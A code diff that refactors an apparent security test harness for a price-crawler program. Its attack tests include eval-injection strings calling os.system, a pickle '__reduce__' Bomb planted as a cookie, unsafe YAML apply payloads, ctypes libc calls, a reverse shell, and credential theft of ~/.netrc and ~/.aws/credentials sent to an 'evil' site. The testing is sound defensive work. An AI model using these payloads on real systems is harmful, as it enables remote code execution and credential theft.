@@ -6,6 +6,7 @@ import os
 import pickle
 import zipfile
 
+from attackers import Bomb, in_yaml
 import stage
 
 MONEY = {"__init__.py": '''"""Prices."""
@@ -27,14 +28,6 @@ MONEY_NEW = {
 PAGE = '''<html><body>{items}{links}</body></html>'''
 ITEM = ('<div class="item"><b class="name">{}</b>'
         '<i class="price">{}</i></div>')
-
-
-class Bomb:
-    def __init__(self, *call):
-        self.call = call
-
-    def __reduce__(self):
-        return self.call[0], self.call[1:]
 
 
 class PriceCrawler(stage.Program):
@@ -200,61 +193,47 @@ class PriceCrawler(stage.Program):
         self.evil_shop(links=[f"{evil.url}/?visitor={stage.SECRET}"])
         return evil.heard(stage.SECRET)
 
+    def executes(self, code):
+        self.evil_shop([("x", f"exec({code!r})")], rules={
+            "formula": "PRICE or 1"})
+
+    def returns(self, *call):
+        """To a shop whose cookies somebody else has written."""
+        path = stage.write(self.srv / "var/cookies/books.jar",
+                           pickle.dumps(Bomb(*call)))
+        self.crawl("crawl", "books")
+        path.unlink()
+
     @stage.attack("eval injection")
     def price_runs_a_command(self):
-        marker = self.marker("price")
-        self.evil_shop([("x", f"__import__('os').system('id > {marker}')")],
-                       rules={"formula": "PRICE * 1.19"})
-        return marker.exists()
+        return self.runs_line(lambda line: self.evil_shop(
+            [("x", f"__import__('os').system('{line}')")],
+            rules={"formula": "PRICE * 1.19"}))
 
     @stage.attack("eval injection")
     def price_sends_credentials(self):
-        evil = self.site("evil")
-        evil.page("*", b"")
-        code = stage.THEFT.format(url=evil.url, file="~/.netrc")
-        self.evil_shop([("x", f"exec({code!r})")], rules={
-            "formula": "PRICE or 1"})
-        return evil.heard(stage.SECRET)
+        return self.steals(self.executes, "~/.netrc")
 
     @stage.attack("fork+exec")
     def price_forks_and_execs(self):
-        marker = self.marker("fork")
-        code = stage.FORK_AND_EXEC.format(line=f"id > {marker}")
-        self.evil_shop([("x", f"exec({code!r})")], rules={
-            "formula": "PRICE or 1"})
-        return self.happens(marker.exists)
+        return self.forks(self.executes)
 
     @stage.attack("unsafe yaml")
     def rules_run_a_command(self):
-        marker = self.marker("yaml")
-        self.loads(f"!!python/object/apply:os.system ['id > {marker}']\n")
-        return marker.exists()
+        return self.runs_line(lambda line: self.loads(
+            f"!!python/object/apply:os.system ['{line}']\n"))
 
     @stage.attack("ctypes")
     def rules_call_libc(self):
-        marker = self.marker("ctypes")
-        self.loads("!!python/object/apply:exec\n- " + json.dumps(
-            f"import ctypes\nctypes.CDLL(None).system(b'id > {marker}')\n"))
-        return marker.exists()
+        return self.runs_libc(lambda code: self.loads(in_yaml(code)))
 
     @stage.attack("unsafe pickle")
     def cookies_run_a_command(self):
-        marker = self.marker("pickle")
-        stage.write(self.srv / "var/cookies/books.jar",
-                    pickle.dumps(Bomb(os.system, f"id > {marker}")))
-        self.crawl("crawl", "books")
-        (self.srv / "var/cookies/books.jar").unlink()
-        return marker.exists()
+        return self.runs_line(lambda line: self.returns(os.system, line))
 
     @stage.attack("reverse shell")
     def cookies_call_home(self):
-        path = self.srv / "var/cookies/books.jar"
-        with self.listener() as attacker:
-            stage.write(path, pickle.dumps(Bomb(
-                exec, stage.CALL_HOME.format(port=self.port("shell")))))
-            self.crawl("crawl", "books")
-            path.unlink()
-            return self.happens(lambda: b"got-42" in attacker.heard)
+        return self.calls_home(lambda code: self.returns(exec, code))
 
     @stage.attack("command injection")
     def kind_runs_a_command(self):
@@ -278,11 +257,7 @@ class PriceCrawler(stage.Program):
 
     @stage.attack("malicious dependency")
     def money_steals_credentials(self):
-        evil = self.site("evil")
-        evil.page("*", b"")
-        self.install("money", "1.0.1", {"__init__.py": stage.THEFT.format(
-            url=evil.url, file="~/.aws/credentials")
-            + MONEY["__init__.py"]})
-        self.open_shops()
-        self.crawl("crawl", "books")
-        return evil.heard(stage.SECRET)
+        def use():
+            self.open_shops()
+            self.crawl("crawl", "books")
+        return self.dependency_steals("money", "1.0.1", MONEY, use)
